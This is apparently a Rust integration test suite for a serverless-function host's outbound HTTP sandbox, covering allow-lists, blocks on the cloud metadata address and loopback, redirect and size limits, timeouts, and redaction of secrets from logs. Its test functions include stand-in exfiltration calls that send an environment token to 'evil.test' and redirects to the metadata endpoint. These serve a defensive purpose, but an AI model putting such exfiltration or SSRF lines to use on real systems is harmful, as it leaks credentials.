//! Outbound HTTP: functions calling real servers (spawned here, on 127.0.0.1)
//! through fetch, axios and request, under the tenant's allow-list and the
//! server-wide address rules.

use crate::server_harness::*;
use axum::body::Body;
use axum::extract::{Request, State};
use axum::http::{StatusCode, header};
use axum::response::{IntoResponse, Response};
use reqwest::Method;
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// What the upstream server saw.
#[derive(Default)]
struct Seen {
    requests: Mutex<Vec<Recorded>>,
    in_flight: AtomicUsize,
    max_in_flight: AtomicUsize,
    holds: AtomicUsize,
    /// Requests to /slow whose handler is still running (dropped when
    /// hookbox hangs up).
    slow_active: AtomicUsize,
}

#[derive(Clone, Debug)]
struct Recorded {
    method: String,
    path: String,
    headers: BTreeMap<String, String>,
    body: String,
}

impl Seen {
    fn to(&self, path: &str) -> Vec<Recorded> {
        let all = self.requests.lock().unwrap();
        all.iter().filter(|r| r.path == path).cloned().collect()
    }
}

struct SlowGuard(Arc<Seen>);

impl Drop for SlowGuard {
    fn drop(&mut self) {
        self.0.slow_active.fetch_sub(1, Ordering::SeqCst);
    }
}

async fn handle(State(seen): State<Arc<Seen>>, req: Request) -> Response {
    let (parts, body) = req.into_parts();
    let body = axum::body::to_bytes(body, 4 << 20)
        .await
        .unwrap_or_default();
    let headers: BTreeMap<String, String> = parts
        .headers
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_str().unwrap_or("").to_string()))
        .collect();
    let path = parts.uri.path().to_string();
    seen.requests.lock().unwrap().push(Recorded {
        method: parts.method.to_string(),
        path: path.clone(),
        headers: headers.clone(),
        body: String::from_utf8_lossy(&body).into_owned(),
    });
    let json = |v: Value| axum::Json(v).into_response();
    let found =
        |to: &str| (StatusCode::FOUND, [(header::LOCATION, to.to_string())]).into_response();
    match path.as_str() {
        "/list" => json(json!({"allowed": ["ada@example.com"]})),
        p if p.starts_with("/hook") => json(json!({"ok": true})),
        "/echo" => json(json!({
            "method": parts.method.as_str(),
            "contentType": headers.get("content-type"),
            "trace": headers.get("x-trace"),
            "body": String::from_utf8_lossy(&body),
        })),
        "/text" => ([(header::CONTENT_TYPE, "text/plain")], "plain text").into_response(),
        "/missing" => (StatusCode::NOT_FOUND, axum::Json(json!({"error": "nope"}))).into_response(),
        "/redirect-ok" => found("/list"),
        "/redirect-metadata" => found("http://169.254.169.254/latest/meta-data/"),
        "/redirect-evil" => found("http://evil.test/steal"),
        "/redirect-loop" => found("/redirect-loop"),
        "/slow" => {
            seen.slow_active.fetch_add(1, Ordering::SeqCst);
            let _guard = SlowGuard(seen.clone());
            tokio::time::sleep(Duration::from_secs(60)).await;
            "late".into_response()
        }
        "/hold" => {
            let now = seen.in_flight.fetch_add(1, Ordering::SeqCst) + 1;
            seen.max_in_flight.fetch_max(now, Ordering::SeqCst);
            tokio::time::sleep(Duration::from_millis(200)).await;
            seen.in_flight.fetch_sub(1, Ordering::SeqCst);
            seen.holds.fetch_add(1, Ordering::SeqCst);
            json(json!({"ok": true}))
        }
        // 2.5 MB, streamed without a content-length: the cap must count.
        "/huge" => {
            let chunks = (0..40).map(|_| Ok::<_, std::io::Error>(vec![b'x'; 64 * 1024]));
            Body::from_stream(futures_util::stream::iter(chunks)).into_response()
        }
        _ => StatusCode::NOT_FOUND.into_response(),
    }
}

/// An HTTP server on 127.0.0.1 in this test process; returns its port.
async fn upstream() -> (u16, Arc<Seen>) {
    let seen = Arc::new(Seen::default());
    let app = axum::Router::new()
        .fallback(handle)
        .with_state(seen.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (port, seen)
}

/// A hookbox server with `--outbound-allow-private=<access>`.
async fn hookbox(access: &str) -> (tempfile::TempDir, Server, String) {
    hookbox_env(access, &[]).await
}

async fn hookbox_env(access: &str, extra: &[(&str, &str)]) -> (tempfile::TempDir, Server, String) {
    let dir = tempfile::tempdir().unwrap();
    let mut env = vec![("HOOKBOX_OUTBOUND_ALLOW_PRIVATE", access)];
    env.extend_from_slice(extra);
    let server = Server::start_with(dir.path(), &env);
    let token = server.admin_token().await;
    (dir, server, token)
}

async fn allow(server: &Server, token: &str, rules: Value) -> (StatusCode, Value) {
    let (status, body) = server
        .call(
            Method::PUT,
            "/v1/outbound",
            token,
            Some(json!({"allow": rules})),
        )
        .await;
    (status, body)
}

async fn set_env(server: &Server, token: &str, vars: Value) {
    let (status, body) = server.call(Method::PUT, "/v1/env", token, Some(vars)).await;
    assert_eq!(status, 200, "{body}");
}

/// A dry run (`POST /v1/run`): the outcome.
async fn dry_run(server: &Server, token: &str, source: &str, user: Value, event: Value) -> Value {
    let (status, body) = server
        .call(
            Method::POST,
            "/v1/run",
            token,
            // The longest timeout: what these calls do must not depend on
            // how busy the machine is.
            Some(json!({"sourceCode": source, "user": user, "context": {}, "event": event, "timeout": 60})),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    body["data"].clone()
}

/// Fetches `event.target`; returns the body, or the error's message.
const FETCH_TARGET: &str = r#"
exports.handler = async (event) => {
  try {
    const res = await fetch(event.target, event.init);
    return { status: res.status, body: await res.text() };
  } catch (e) {
    return { error: e.message, code: e.code, name: e.name };
  }
};"#;

async fn fetch_target(server: &Server, token: &str, target: &str) -> Value {
    let out = dry_run(
        server,
        token,
        FETCH_TARGET,
        json!({}),
        json!({"target": target}),
    )
    .await;
    assert_eq!(out["outcome"], "ok", "{out}");
    out["result"].clone()
}

#[tokio::test]
async fn axios_request_and_fetch_reach_an_allow_listed_server() {
    let (port, seen) = upstream().await;
    let (_dir, server, token) = hookbox("loopback").await;
    let base = format!("http://127.0.0.1:{port}");
    let (status, body) = allow(&server, &token, json!([format!("127.0.0.1:{port}")])).await;
    assert_eq!(status, 200, "{body}");
    set_env(
        &server,
        &token,
        json!({"WEBHOOK": format!("{base}/hook?access_token=abc"), "LIST_URL": format!("{base}/list"),
               "ECHO": format!("{base}/echo")}),
    )
    .await;

    // Authing: load an allow-list from a URL, then notify a webhook.
    let authing = r#"
const axios = require('axios');
async function pipe(user, context, callback) {
  const { data } = await axios.get(env.LIST_URL);
  if (!data.allowed.includes(user.email)) return callback(new Error('not on the list'));
  const res = await axios.post(env.WEBHOOK, { msgtype: 'text', text: { content: 'registered ' + user.email } });
  user.notified = res.status === 200 && res.data.ok === true;
  callback(null, user, context);
}"#;
    let out = dry_run(
        &server,
        &token,
        authing,
        json!({"email": "ada@example.com"}),
        json!({}),
    )
    .await;
    assert_eq!(out["outcome"], "ok", "{out}");
    assert_eq!(out["user"]["notified"], true, "{out}");
    let hooks = seen.to("/hook");
    assert_eq!(hooks.len(), 1);
    assert_eq!(hooks[0].method, "POST");
    assert_eq!(hooks[0].headers["content-type"], "application/json");
    let sent: Value = serde_json::from_str(&hooks[0].body).unwrap();
    assert_eq!(sent["text"]["content"], "registered ada@example.com");
    let out = dry_run(
        &server,
        &token,
        authing,
        json!({"email": "eve@evil.test"}),
        json!({}),
    )
    .await;
    assert_eq!(out["outcome"], "error");
    assert_eq!(out["error"]["message"], "not on the list");
    assert_eq!(
        seen.to("/hook").len(),
        1,
        "no notification for a denied user"
    );

    // axios: a non-2xx rejects with the response attached.
    let axios_404 = r#"
const axios = require('axios');
exports.handler = async (event) => {
  try {
    await axios.get(event.base + '/missing', { params: { q: 'a b' } });
    return 'resolved';
  } catch (e) {
    return { isAxios: axios.isAxiosError(e), message: e.message, status: e.response.status, data: e.response.data };
  }
};"#;
    let out = dry_run(&server, &token, axios_404, json!({}), json!({"base": base})).await;
    assert_eq!(
        out["result"],
        json!({"isAxios": true, "message": "Request failed with status code 404", "status": 404, "data": {"error": "nope"}}),
        "{out}"
    );

    // Auth0 rule: request.post with json, then form, then a GET with json: true.
    let rule = r#"
function (user, context, callback) {
  const request = require('request');
  request.post({ url: configuration.ECHO, json: { email: user.email } }, function (err, response, body) {
    if (err) return callback(err);
    user.code = response.statusCode;
    user.echo = body;
    request.post(configuration.ECHO, { form: { a: 1, b: 'x y' } }, function (err2, res2, formBody) {
      if (err2) return callback(err2);
      user.form = JSON.parse(formBody);
      request.get(configuration.LIST_URL, { json: true }, function (err3, res3, list) {
        if (err3) return callback(err3);
        user.list = list.allowed;
        callback(null, user, context);
      });
    });
  });
}"#;
    let out = dry_run(
        &server,
        &token,
        rule,
        json!({"email": "ada@example.com"}),
        json!({}),
    )
    .await;
    assert_eq!(out["outcome"], "ok", "{out}");
    let user = &out["user"];
    assert_eq!(user["code"], 200);
    assert_eq!(user["echo"]["method"], "POST");
    assert_eq!(user["echo"]["contentType"], "application/json");
    assert_eq!(user["echo"]["body"], r#"{"email":"ada@example.com"}"#);
    assert_eq!(
        user["form"]["contentType"],
        "application/x-www-form-urlencoded"
    );
    assert_eq!(user["form"]["body"], "a=1&b=x%20y");
    assert_eq!(user["list"], json!(["ada@example.com"]));

    // fetch (a global, and require('node-fetch')): JSON both ways, headers, text, redirects.
    let fetcher = r#"
const nodeFetch = require('node-fetch');
exports.handler = async (event) => {
  const res = await fetch(event.base + '/echo', {
    method: 'POST', headers: { 'Content-Type': 'application/json', 'X-Trace': 't1' }, body: JSON.stringify({ a: 1 }),
  });
  const body = await res.json();
  const names = [];
  res.headers.forEach((v, k) => names.push(k));
  const text = await (await nodeFetch(event.base + '/text')).text();
  const moved = await fetch(event.base + '/redirect-ok');
  const manual = await fetch(event.base + '/redirect-ok', { redirect: 'manual' });
  return {
    status: res.status, ok: res.ok, statusText: res.statusText, ct: res.headers.get('CONTENT-TYPE'),
    has: res.headers.has('content-type'), names: names.includes('content-type'), body, text,
    redirected: moved.redirected, final: (await moved.json()).allowed, manual: manual.status,
    missing: (await fetch(event.base + '/missing')).ok,
  };
};"#;
    let out = dry_run(&server, &token, fetcher, json!({}), json!({"base": base})).await;
    assert_eq!(out["outcome"], "ok", "{out}");
    let r = &out["result"];
    assert_eq!(r["status"], 200);
    assert_eq!(r["ok"], true);
    assert_eq!(r["statusText"], "OK");
    assert_eq!(r["ct"], "application/json");
    assert_eq!(r["has"], true);
    assert_eq!(r["names"], true);
    assert_eq!(r["body"]["body"], r#"{"a":1}"#);
    assert_eq!(r["body"]["trace"], "t1");
    assert_eq!(r["text"], "plain text");
    assert_eq!(r["redirected"], true);
    assert_eq!(r["final"], json!(["ada@example.com"]));
    assert_eq!(r["manual"], 302);
    assert_eq!(r["missing"], false);

    // Auth0 hooks may declare the modules they require.
    let (status, body) = server
        .call(
            Method::POST,
            "/api/v2/hooks",
            &token,
            Some(json!({"name": "notify", "script": "module.exports = function (user, context, cb) { cb(null, {}) }",
                        "triggerId": "post-user-registration", "dependencies": {"axios": "1.6.0", "request": "2.88.2", "node-fetch": "2.7.0"}})),
        )
        .await;
    assert_eq!(status, 201, "{body}");
}

#[tokio::test]
async fn refusals_name_the_rule_and_are_logged() {
    let (port, seen) = upstream().await;
    let (_dir, server, token) = hookbox("loopback").await;
    let base = format!("http://127.0.0.1:{port}");

    // Default: no allow-list, no access.
    let r = fetch_target(&server, &token, &format!("{base}/list")).await;
    assert_eq!(
        r["error"],
        format!(
            "outbound: host 127.0.0.1:{port} is not in this tenant's allow-list (the allow-list is empty: no outbound access)"
        ),
        "{r}"
    );
    assert_eq!(r["code"], "EOUTBOUND");
    assert_eq!(
        r["name"], "TypeError",
        "fetch rejects with a TypeError, as Node's does"
    );
    assert!(seen.requests.lock().unwrap().is_empty());

    // The API: validated, normalised, admin only.
    let (status, body) = allow(&server, &token, json!(["https://hooks.slack.com/x"])).await;
    assert_eq!(status, 400, "{body}");
    assert!(
        body["message"]
            .as_str()
            .unwrap()
            .contains("hooks.slack.com/x"),
        "{body}"
    );
    // An address no call could reach is refused when it is set.
    let (status, body) = allow(&server, &token, json!(["169.254.169.254"])).await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(
        body["message"],
        "allow: \"169.254.169.254\": a cloud metadata address, which functions may not reach (only --outbound-allow-private lifts this)"
    );
    let (status, body) = allow(
        &server,
        &token,
        json!([format!("127.0.0.1:{port}"), "*.Slack.com", "*.slack.com"]),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    let (_, body) = server.call(Method::GET, "/v1/outbound", &token, None).await;
    assert_eq!(
        body["data"]["allow"],
        json!([format!("127.0.0.1:{port}"), "*.slack.com"])
    );

    let refused = [
        (
            "http://evil.test/x",
            "outbound: host evil.test is not in this tenant's allow-list".to_string(),
        ),
        (
            &format!("{base}/redirect-evil"),
            "outbound: host evil.test is not in this tenant's allow-list".to_string(),
        ),
        (
            &format!("{base}/redirect-metadata"),
            "outbound: host 169.254.169.254 is not in this tenant's allow-list".to_string(),
        ),
        (
            "http://[::ffff:169.254.169.254]/",
            "outbound: host [::ffff:a9fe:a9fe] is not in this tenant's allow-list".to_string(),
        ),
        (
            &format!("http://127.0.0.1:{}/", port.wrapping_add(1).max(1)),
            format!(
                "outbound: host 127.0.0.1:{} is not in this tenant's allow-list",
                port.wrapping_add(1).max(1)
            ),
        ),
        (
            &format!("ftp://127.0.0.1:{port}/"),
            "outbound: only http and https requests are allowed, not ftp".to_string(),
        ),
        (
            &format!("{base}/huge"),
            format!(
                "outbound: the response from 127.0.0.1 is larger than the limit of {} bytes (1 MB)",
                1024 * 1024
            ),
        ),
        (
            &format!("{base}/redirect-loop"),
            "outbound: more than 5 redirects, the last from 127.0.0.1".to_string(),
        ),
    ];
    for (target, want) in &refused {
        let r = fetch_target(&server, &token, target).await;
        assert_eq!(r["error"], *want, "{target}: {r}");
    }
    assert_eq!(
        seen.to("/redirect-loop").len(),
        6,
        "the first request and 5 hops"
    );
    assert!(seen.to("/steal").is_empty());

    // Allowed by `*`, a redirect to the metadata address is still refused at
    // call time, before connecting.
    let (status, body) = allow(&server, &token, json!(["*", format!("127.0.0.1:{port}")])).await;
    assert_eq!(status, 200, "{body}");
    let r = fetch_target(&server, &token, &format!("{base}/redirect-metadata")).await;
    assert_eq!(
        r["error"],
        "outbound: address 169.254.169.254 is a cloud metadata address, which functions may not reach",
        "{r}"
    );
    let (status, body) = allow(
        &server,
        &token,
        json!([format!("127.0.0.1:{port}"), "*.slack.com"]),
    )
    .await;
    assert_eq!(status, 200, "{body}");

    // Per-call bounds: requests and body size.
    let bounds = r#"
exports.handler = async (event) => {
  const out = [];
  try { await fetch(event.base + '/echo', { method: 'POST', body: 'x'.repeat(256 * 1024 + 1) }); } catch (e) { out.push(e.message); }
  for (let i = 0; i < 10; i++) {
    try { await fetch(event.base + '/list'); out.push('ok'); } catch (e) { out.push(e.message); }
  }
  return out;
};"#;
    let out = dry_run(&server, &token, bounds, json!({}), json!({"base": base})).await;
    let r = out["result"].as_array().unwrap_or_else(|| panic!("{out}"));
    assert_eq!(
        r[0],
        format!(
            "outbound: request body is {} bytes; the limit is 262144 (256 KB)",
            256 * 1024 + 1
        )
    );
    assert!(r[1..10].iter().all(|v| v == "ok"), "{out}");
    assert_eq!(r[10], "outbound: a call may make at most 10 requests");

    // Uncaught, a refusal is the function's error; it is also in the log.
    let f = server
        .deploy(
            &token,
            function(
                "uncaught",
                "PRE_REGISTER",
                "async function pipe(user, context, callback) {\n  await fetch('http://evil.test/' + user.id);\n  callback(null, user, context);\n}",
            ),
        )
        .await;
    let fid = f["funcId"].as_str().unwrap();
    let (_, out) = server
        .call(
            Method::POST,
            &format!("/v1/functions/{fid}/invoke"),
            &token,
            Some(json!({"user": {"id": "u1"}})),
        )
        .await;
    assert_eq!(out["data"]["outcome"], "error", "{out}");
    assert_eq!(
        out["data"]["error"]["message"],
        "outbound: host evil.test is not in this tenant's allow-list"
    );
    let logs = eventually("the invocation log", || async {
        let (_, logs) = server
            .call(
                Method::GET,
                &format!("/v1/functions/{fid}/logs"),
                &token,
                None,
            )
            .await;
        (logs["data"]["totalCount"] == 1).then_some(logs)
    })
    .await;
    assert_eq!(
        logs["data"]["list"][0]["logs"][0],
        json!({"level": "warn", "message": "outbound: host evil.test is not in this tenant's allow-list"})
    );
}

#[tokio::test]
async fn names_are_checked_after_resolution_and_private_addresses_refused() {
    let (port, seen) = upstream().await;
    // The production default: no private addresses, whatever the allow-list says.
    let (_dir, server, token) = hookbox("false").await;
    // Rules naming them are refused when set...
    for rule in [
        format!("localhost:{port}"),
        format!("127.0.0.1:{port}"),
        "[::1]".to_string(),
    ] {
        let (status, body) = allow(&server, &token, json!([rule])).await;
        assert_eq!(status, 400, "{rule}: {body}");
    }
    // ...and `*` reaches them neither by name nor as literals.
    let (status, body) = allow(&server, &token, json!(["*", format!("*:{port}")])).await;
    assert_eq!(status, 200, "{body}");

    let r = fetch_target(&server, &token, &format!("http://localhost:{port}/list")).await;
    let msg = r["error"].as_str().unwrap_or_default();
    assert!(
        msg.starts_with("outbound: host localhost resolves to ")
            && msg.ends_with(", a loopback address, which functions may not reach"),
        "{r}"
    );
    assert_eq!(r["code"], "EOUTBOUND");
    let r = fetch_target(&server, &token, &format!("http://127.0.0.1:{port}/list")).await;
    assert_eq!(
        r["error"],
        "outbound: address 127.0.0.1 is a loopback address, which functions may not reach"
    );
    let r = fetch_target(&server, &token, "http://[::1]/").await;
    assert_eq!(
        r["error"],
        "outbound: address ::1 is a loopback address, which functions may not reach"
    );
    assert!(
        seen.requests.lock().unwrap().is_empty(),
        "nothing reached the server"
    );
}

#[tokio::test]
async fn a_slow_server_ends_in_timeout_and_is_hung_up_on() {
    let (port, seen) = upstream().await;
    let (_dir, server, token) = hookbox("loopback").await;
    let base = format!("http://127.0.0.1:{port}");
    allow(&server, &token, json!([format!("127.0.0.1:{port}")])).await;
    let mut slow = function(
        "slow",
        "PRE_REGISTER",
        &format!(
            "async function pipe(user, context, callback) {{\n  await fetch('{base}/slow');\n  callback(null, user, context);\n}}"
        ),
    );
    slow["timeout"] = json!(1);
    let f = server.deploy(&token, slow).await;
    let fid = f["funcId"].as_str().unwrap();
    let (status, out) = server
        .call(
            Method::POST,
            &format!("/v1/functions/{fid}/invoke"),
            &token,
            Some(json!({})),
        )
        .await;
    assert_eq!(status, 200, "{out}");
    assert_eq!(out["data"]["outcome"], "timeout", "{out}");
    assert_eq!(out["data"]["error"]["name"], "TimeoutError");
    // The request was dropped with the instance: the upstream sees the hang-up.
    assert_eq!(seen.to("/slow").len(), 1);
    eventually("the slow request to be dropped", || async {
        (seen.slow_active.load(Ordering::SeqCst) == 0).then_some(())
    })
    .await;
    // And the server goes on serving.
    let r = fetch_target(&server, &token, &format!("{base}/list")).await;
    assert_eq!(r["status"], 200, "{r}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn concurrent_calls_wait_on_the_network_without_blocking_each_other() {
    let (port, seen) = upstream().await;
    let (_dir, server, token) = hookbox("loopback").await;
    allow(&server, &token, json!([format!("127.0.0.1:{port}")])).await;
    let mut f = function(
        "hold",
        "PRE_AUTHENTICATION",
        &format!(
            "async function pipe(user, context, callback) {{\n  const res = await fetch('http://127.0.0.1:{port}/hold');\n  user.held = (await res.json()).ok;\n  callback(null, user, context);\n}}"
        ),
    );
    f["timeout"] = json!(30);
    server.deploy(&token, f).await;
    let server = Arc::new(server);
    let token = Arc::new(token);
    let runs: Vec<_> = (0..100)
        .map(|i| {
            let (server, token) = (server.clone(), token.clone());
            tokio::spawn(async move {
                server
                    .call(
                        Method::POST,
                        "/v1/scenes/PRE_AUTHENTICATION/run",
                        &token,
                        Some(json!({"user": {"i": i}, "context": {}})),
                    )
                    .await
            })
        })
        .collect();
    for run in runs {
        let (status, out) = run.await.unwrap();
        assert_eq!(status, 200, "{out}");
        assert_eq!(out["data"]["outcome"], "ok", "{out}");
        assert_eq!(out["data"]["user"]["held"], true, "{out}");
    }
    assert_eq!(seen.holds.load(Ordering::SeqCst), 100);
    // Each request is held 200 ms; had the calls waited on each other, at
    // most one would have been in flight.
    let max = seen.max_in_flight.load(Ordering::SeqCst);
    assert!(max >= 50, "only {max} requests were in flight at once");
}

/// Everything hookbox and its HTTP client say, at debug level.
const LOG_FILTER: &str = "info,hookbox=debug,hookbox_engine=debug,hookbox_service=debug,hookbox_server=debug,reqwest=debug,hyper_util=debug";

#[tokio::test]
async fn env_values_never_reach_the_logs_or_stderr() {
    const SECRET: &str = "tok-9f8e7d6c5b4a3210";
    let (port, seen) = upstream().await;
    let (_dir, server, token) = hookbox_env("loopback", &[("HOOKBOX_LOG", LOG_FILTER)]).await;
    let base = format!("http://127.0.0.1:{port}");
    allow(&server, &token, json!([format!("127.0.0.1:{port}")])).await;
    set_env(
        &server,
        &token,
        json!({"TOKEN": SECRET, "HOOK": format!("{base}/hook/{SECRET}")}),
    )
    .await;
    let source = r#"
const axios = require('axios');
async function pipe(user, context, callback) {
  console.log('calling with', env.TOKEN);
  await axios.post(env.HOOK, { a: 1 }, { headers: { Authorization: 'Bearer ' + env.TOKEN } });
  try { await fetch('http://evil.test/' + env.TOKEN, { headers: { 'X-Token': env.TOKEN } }); } catch (e) { console.warn(e.message); }
  try { await fetch(env.HOOK.replace('/hook/', ':1/')); } catch (e) { console.warn(e.message); }
  throw new Error('gave up with ' + env.TOKEN);
}"#;
    let f = server
        .deploy(&token, function("leaky", "PRE_REGISTER", source))
        .await;
    let fid = f["funcId"].as_str().unwrap();
    let (_, out) = server
        .call(
            Method::POST,
            &format!("/v1/functions/{fid}/invoke"),
            &token,
            Some(json!({})),
        )
        .await;
    assert_eq!(out["data"]["outcome"], "error", "{out}");
    // The token was really used.
    let hooks = seen.to(&format!("/hook/{SECRET}"));
    assert_eq!(hooks.len(), 1);
    assert_eq!(
        hooks[0].headers["authorization"],
        format!("Bearer {SECRET}")
    );

    let logs = eventually("the invocation log", || async {
        let (_, logs) = server
            .call(
                Method::GET,
                &format!("/v1/functions/{fid}/logs"),
                &token,
                None,
            )
            .await;
        (logs["data"]["totalCount"] == 1).then_some(logs)
    })
    .await;
    let text = logs.to_string();
    assert!(!text.contains(SECRET), "{text}");
    assert!(text.contains("calling with [redacted: TOKEN]"), "{text}");
    assert!(text.contains("gave up with [redacted: TOKEN]"), "{text}");
    assert!(
        text.contains("host evil.test is not in this tenant's allow-list"),
        "{text}"
    );
    let stderr = server.stderr();
    assert!(
        stderr.contains("outbound request refused"),
        "debug logging is on"
    );
    let leaks: Vec<&str> = stderr.lines().filter(|l| l.contains(SECRET)).collect();
    assert!(leaks.is_empty(), "{leaks:#?}");
}

/// A loop of refused requests writes one line to the server's own log, not
/// one per request: a tenant cannot fill the operator's disk through it.
/// (A new user's loop wrote 133,000 warnings, 12 MB, in one 5 s call.)
#[tokio::test]
async fn a_loop_of_refused_requests_writes_one_server_log_line() {
    let (_dir, server, token) = hookbox("false").await;
    let source = r#"
exports.handler = async () => {
  let refused = 0;
  for (let i = 0; i < 500; i++) {
    try { await fetch('http://evil.test/'); } catch (e) { refused++; }
  }
  return refused;
};"#;
    let out = dry_run(&server, &token, source, json!({}), json!({})).await;
    assert_eq!(out["result"], 500, "{out}");
    // A second call with one refusal: once its line has been read from the
    // server's stderr (a pipe, in order), so has everything the first wrote.
    let out = fetch_target(&server, &token, "http://evil.test/").await;
    assert!(out["error"].is_string(), "{out}");
    let count = || {
        server
            .stderr()
            .lines()
            .filter(|l| l.contains("outbound request refused"))
            .count()
    };
    eventually("the second call's line", || async {
        (count() >= 2).then_some(())
    })
    .await;
    assert_eq!(count(), 2, "{}", server.stderr());
}
